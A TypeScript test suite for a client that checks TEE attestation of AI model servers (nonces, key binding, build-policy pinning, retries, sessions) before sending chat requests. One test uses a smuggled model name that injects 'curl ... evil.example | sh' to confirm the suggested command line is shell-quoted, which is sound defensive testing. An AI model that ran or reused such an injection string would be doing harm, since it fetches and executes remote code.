import { once } from "node:events";
import { addressOf, createReportData, toHex } from "@bauta/protocol";
import { backend } from "@bauta/protocol/backend";
import { describe, expect, it } from "vitest";
import type { Attestation, ClientError } from "./index.ts";
import {
  at,
  type Attested,
  createGate,
  honestAttestation,
  MODEL,
  NOW_MS,
  queryOf,
  QUESTION,
  readAll,
  rejection,
  reply,
  type Script,
  simulator,
  startServer,
} from "./scripted-server.test.ts";

const attestWith = async (attestation: NonNullable<Script["attestation"]>) => startServer({ attestation });

function failedChecks({ result }: Attestation): string[] {
  return result.checks.filter((check) => check.required && check.status !== "pass").map((check) => check.id);
}

describe("attest", () => {
  it("asks with a fresh nonce and gives every check, the key and the evidence", async () => {
    const server = await startServer();
    const client = server.client();
    const first = await client.attest(MODEL);
    const second = await client.attest(MODEL);
    expect(first.result).toMatchObject({ ok: true, simulated: true, pinned: true });
    expect(first).toMatchObject({ model: MODEL, attestedAtMs: NOW_MS, evidence: { verified: true, model: MODEL } });
    expect(toHex(first.modelKey!)).toBe(toHex(server.modelKey.publicKey));
    expect(first.nonce).toMatch(/^[0-9a-f]{64}$/);
    expect(second.nonce).not.toBe(first.nonce);
    expect(server.seen[1]).toBe(`tee/attestation?model=${MODEL}&nonce=${second.nonce}`);
  });

  const foreign = backend.createKeyPair();
  const stale = simulator.quote(createReportData(addressOf(foreign.publicKey), new Uint8Array(32)));
  const refused: [string, string, (honest: Attested) => unknown][] = [
    ["a garbage quote beside verified: true", "tdx.parse", (a) => ({ ...a, verified: true, intel_quote: "00".repeat(5000) })],
    ["a quote for another nonce", "nonce.bound", async (a) => ({ ...a, intel_quote: toHex(await stale) })],
    ["another nonce in the answer", "nonce.bound", (a) => ({ ...a, nonce: "00".repeat(32) })],
    [
      "another key than the quote binds",
      "key.bound-to-report-data",
      (a) => ({ ...a, signing_key: toHex(foreign.publicKey), signing_address: undefined }),
    ],
    ["the right address beside another key", "key.address-derived", (a) => ({ ...a, signing_key: toHex(foreign.publicKey) })],
    ["no key", "key.address-derived", (a) => ({ ...a, signing_key: undefined, signing_public_key: undefined })],
    ["a key that is no point", "key.address-derived", (a) => ({ ...a, signing_key: `04${"11".repeat(64)}` })],
  ];
  it.each(refused)("does not accept %s (%s), and chat sends nothing", async (_name, check, change) => {
    const server = await attestWith((honest) => change(honest));
    const client = server.client();
    const attestation = await client.attest(MODEL);
    expect(attestation).toMatchObject({ result: { ok: false }, modelKey: undefined });
    expect(failedChecks(attestation)).toContain(check);

    const error = await rejection(client.chat({ model: MODEL, messages: QUESTION }));
    expect(error).toMatchObject({
      name: "ClientError",
      code: "attestation_refused",
      action: "stop",
      details: { attestation: { result: { ok: false } } },
    });
    expect(String(error)).toContain(check);
    expect(server.count("chat")).toBe(0);
  });

  it("believes verified: false as little as verified: true", async () => {
    const server = await attestWith((honest) => ({ ...honest, verified: false }));
    expect((await server.client().attest(MODEL)).result.ok).toBe(true);
  });

  it.each([
    ["no quote", (a: Attested) => ({ ...a, intel_quote: undefined }), "intel_quote"],
    ["a quote of another kind", (a: Attested) => ({ ...a, intel_quote: 7 }), "intel_quote"],
    ["a list", () => [], "(whole)"],
    ["null", () => null, "(whole)"],
  ])("has nothing to appraise in %s", async (_name, change, field) => {
    const server = await attestWith((honest) => change(honest));
    const client = server.client();
    for (const attempt of [client.attest(MODEL), client.chat({ model: MODEL, messages: QUESTION })]) {
      expect(await rejection(attempt)).toMatchObject({ code: "evidence_malformed", action: "stop", details: { field } });
    }
    expect(server.count("chat")).toBe(0);
  });

  it.each([
    ["no root named", { trustRoots: [] }, "tdx.pck-chain"],
    ["no build pinned", { policy: { version: 1 } }, "measure.mrtd"],
    [
      "another build pinned",
      { policy: { ...simulator.policy("other"), builds: [{ ...at(simulator.policy("other").builds, 0), mrtd: "00".repeat(48) }] } },
      "measure.mrtd",
    ],
  ])("does not accept honest evidence with %s", async (_name, options, check) => {
    const server = await startServer();
    const attestation = await server.client(options).attest(MODEL);
    expect(attestation.result.ok).toBe(false);
    expect(failedChecks(attestation)).toContain(check);
  });

  it("accepts any build under an explicit policy, and says that nothing is pinned", async () => {
    const server = await startServer();
    const { result } = await server.client({ policy: { version: 1, measurements: "any" } }).attest(MODEL);
    expect(result).toMatchObject({ ok: true, pinned: false, simulated: true });
  });

  it("bounds the answer", async () => {
    const server = await startServer({
      attestation: (_honest, _request, response) => void response.writeHead(200).end(`{"x":"${"y".repeat(8 * 1024 * 1024)}"}`),
    });
    expect(await rejection(server.client().attest(MODEL))).toMatchObject({ code: "answer_too_large" });
  });
});

describe("an attestation that a gateway answers by 502", () => {
  const failing = (times: number, status = 502, body: unknown = { error: { message: "TEE attestation verification failed" } }) => {
    let failures = 0;
    return attestWith((honest, _request, response) => (++failures > times ? honest : reply(response, status, body)));
  };

  it("is asked for again, twice at most, each time under another nonce", async () => {
    const server = await failing(2);
    expect((await server.client().attest(MODEL)).result.ok).toBe(true);
    expect(new Set(server.seen).size).toBe(3);

    const down = await failing(3);
    expect(await rejection(down.client().attest(MODEL))).toMatchObject({ code: "server_error", details: { server: { status: 502 } } });
    expect(down.count("tee/attestation")).toBe(3);
  });

  it.each([
    [502, { error: { message: "x", code: "debug_mode" } }],
    [500, {}],
    [503, {}],
    [429, {}],
    [404, {}],
  ])("is not asked for again after %d %j", async (status, body) => {
    const server = await failing(1, status, body);
    expect(await rejection(server.client().attest(MODEL))).toMatchObject({ code: "server_error" });
    expect(server.count("tee/attestation")).toBe(1);
  });

  it("is given up while it waits", async () => {
    const controller = new AbortController();
    const server = await attestWith((_honest, _request, response) => {
      reply(response, 502, {});
      response.on("close", () => controller.abort(new Error("enough")));
      response.on("finish", () => controller.abort(new Error("enough")));
    });
    expect(await rejection(server.client().attest(MODEL, { signal: controller.signal }))).toBe(controller.signal.reason);
    expect(server.count("tee/attestation")).toBe(1);
  });
});

describe("a build that the policy does not know", () => {
  const known = simulator.policy("known");
  const build = at(known.builds, 0);
  const refusedUnder = async (change: object, policy: object = {}) => {
    const server = await startServer();
    const client = server.client({ policy: { ...known, ...policy, builds: [{ ...build, ...change }] } });
    const error = (await rejection(client.chat({ model: MODEL, messages: QUESTION }))) as ClientError;
    expect(error).toMatchObject({ code: "attestation_refused", action: "stop" });
    expect(server.count("chat")).toBe(0);
    return { server, error };
  };

  it("names the values that changed, and the line that accepts them", async () => {
    const { server, error } = await refusedUnder({ mrtd: "00".repeat(48), compose_hash: "11".repeat(32) });
    expect(error.message).toContain(`mrtd is ${build.mrtd.slice(0, 16)}…, not 0000000000000000…`);
    expect(error.message).toContain("compose_hash is ");
    expect(error.message).not.toContain("rtmr1");
    expect(error.message).toContain(`bauta policy accept ${MODEL} --policy <policy file> --base-url ${server.baseURL}`);
    expect(error.details.difference?.values).toMatchObject([
      { name: "mrtd", expected: "00".repeat(48), actual: build.mrtd },
      { name: "compose_hash", expected: "11".repeat(32) },
    ]);
  });

  it("writes that line so that a shell runs nothing in it: names come from the server's own list", async () => {
    const named = "e2ee-x;curl${IFS}evil.example|sh;'$(id)'";
    const server = await startServer();
    const client = server.client({ policy: { ...known, builds: [{ ...build, mrtd: "00".repeat(48) }] } });
    const error = (await rejection(client.chat({ model: named, messages: QUESTION }))) as ClientError;
    expect(error.message).toContain(String.raw`policy accept 'e2ee-x;curl$` + String.raw`{IFS}evil.example|sh;'\''$(id)'\''' --policy`);
  });

  it("offers no such line where something else is wrong", async () => {
    const { error } = await refusedUnder({ mrtd: "00".repeat(48) }, { tcb: { accept: ["UpToDate"], min_evaluation_number: 9_999 } });
    expect(error.message).not.toContain("policy accept");
    const server = await startServer({ attestation: (honest) => ({ ...honest, nonce: "00".repeat(32) }) });
    const client = server.client({ policy: { ...known, builds: [{ ...build, mrtd: "00".repeat(48) }] } });
    const other = (await rejection(client.chat({ model: MODEL, messages: QUESTION }))) as ClientError;
    expect(other.message).toContain("nonce.bound");
    expect(other.message).not.toContain("policy accept");
  });
});

describe("sessions", () => {
  it("attests once for any number of chats at once, and separately for each model", async () => {
    const server = await startServer();
    const client = server.client();
    const models = Array.from({ length: 20 }, (_, i) => (i % 2 === 0 ? MODEL : "e2ee-other"));
    const all = await Promise.all(models.map(async (model) => readAll(await client.chat({ model, messages: QUESTION }))));
    expect(all.map(({ outcome }) => outcome.status)).toEqual(models.map(() => "verified"));
    expect(server.count(`tee/attestation?model=${MODEL}`)).toBe(1);
    expect(server.count("tee/attestation?model=e2ee-other")).toBe(1);
    expect(all.map(({ outcome }) => outcome.attestation.model)).toEqual(models);
  });

  it("keeps the keys of two models apart, made at the same time", async () => {
    const other = backend.createKeyPair();
    const server = await startServer({
      attestation: (honest, request) => (honest["model"] === MODEL ? honest : honestAttestation(queryOf(request), other)),
    });
    const client = server.client();
    const [a, b] = await Promise.all([client.attest(MODEL), client.attest("e2ee-other")]);
    expect([toHex(a.modelKey!), toHex(b.modelKey!)]).toEqual([toHex(server.modelKey.publicKey), toHex(other.publicKey)]);
  });

  it("attests again when the session has expired, or the clock was set back", async () => {
    let nowMs = NOW_MS;
    const server = await startServer();
    const client = server.client({ nowMs: () => nowMs, sessionMs: 1000 });
    const attestations: number[] = [];
    const used: number[] = [];
    for (const now of [NOW_MS, NOW_MS + 999, NOW_MS + 1000, NOW_MS + 1500, NOW_MS + 900]) {
      nowMs = now;
      const chat = await client.chat({ model: MODEL, messages: QUESTION });
      const { outcome } = await readAll(chat);
      expect(outcome.status).toBe("verified");
      expect(outcome.attestation).toBe(chat.attestation);
      attestations.push(server.count("tee/attestation"));
      used.push(chat.attestation.attestedAtMs - NOW_MS);
    }
    expect(attestations).toEqual([1, 1, 2, 2, 3]);
    // What a chat shows as its attestation is as old as the key that it used.
    expect(used).toEqual([0, 0, 1000, 1000, 900]);
  });

  it("gives each chat the attestation that it used, also when the key has changed by then", async () => {
    let nowMs = NOW_MS;
    const server = await startServer();
    const client = server.client({ nowMs: () => nowMs, sessionMs: 1000 });
    const before = await client.attest(MODEL);
    const first = await client.chat({ model: MODEL, messages: QUESTION });
    await readAll(first);
    server.modelKey = backend.createKeyPair();
    nowMs += 1000;
    const second = await client.chat({ model: MODEL, messages: QUESTION });
    expect((await readAll(second)).outcome.status).toBe("verified");
    expect(first.attestation).toBe(before);
    expect(toHex(second.attestation.modelKey!)).toBe(toHex(server.modelKey.publicKey));
    expect(second.attestation.result.claims.signing_address).not.toBe(before.result.claims.signing_address);
  });

  it("does not keep a refusal", async () => {
    let honestNow = false;
    const server = await attestWith((honest) => (honestNow ? honest : { ...honest, intel_quote: "00".repeat(5000) }));
    const client = server.client();
    expect(await rejection(client.chat({ model: MODEL, messages: QUESTION }))).toMatchObject({ code: "attestation_refused" });
    honestNow = true;
    expect((await readAll(await client.chat({ model: MODEL, messages: QUESTION }))).outcome.status).toBe("verified");
  });

  it("forgets an accepted key when the model is attested again and is not acceptable", async () => {
    let honestNow = true;
    const server = await attestWith((honest) => (honestNow ? honest : { ...honest, intel_quote: "00".repeat(5000) }));
    const client = server.client();
    expect((await client.attest(MODEL)).result.ok).toBe(true);
    honestNow = false;
    expect((await client.attest(MODEL)).result.ok).toBe(false);
    expect(await rejection(client.chat({ model: MODEL, messages: QUESTION }))).toMatchObject({ code: "attestation_refused" });
    expect(server.count("chat")).toBe(0);
  });

  it("uses what attest() accepted", async () => {
    const server = await startServer();
    const client = server.client();
    const attestation = await client.attest(MODEL);
    const chat = await client.chat({ model: MODEL, messages: QUESTION });
    expect(chat.attestation).toBe(attestation);
    await readAll(chat);
  });

  it("goes on for the others when one caller gives up, and stops when the last one has", async () => {
    const gate = createGate();
    const closed: Promise<unknown>[] = [];
    const server = await attestWith(async (honest, _request, response) => {
      closed.push(once(response, "close"));
      await gate.pass();
      reply(response, 200, honest);
    });
    const client = server.client();
    const [first, second] = [new AbortController(), new AbortController()];
    const attempts = [first, second].map(({ signal }) => client.attest(MODEL, { signal }));
    await gate.arrival();
    first.abort(new Error("enough"));
    await expect(attempts[0]).rejects.toThrow("enough");
    expect(server.count("tee/attestation")).toBe(1);
    second.abort();
    await expect(attempts[1]).rejects.toMatchObject({ name: "AbortError" });
    await closed[0];
    gate.open();

    const third = client.attest(MODEL);
    const aborted = new AbortController();
    const fourth = client.attest(MODEL, { signal: aborted.signal });
    await gate.arrival();
    aborted.abort();
    await expect(fourth).rejects.toMatchObject({ name: "AbortError" });
    gate.open();
    expect((await third).result.ok).toBe(true);
  });
});
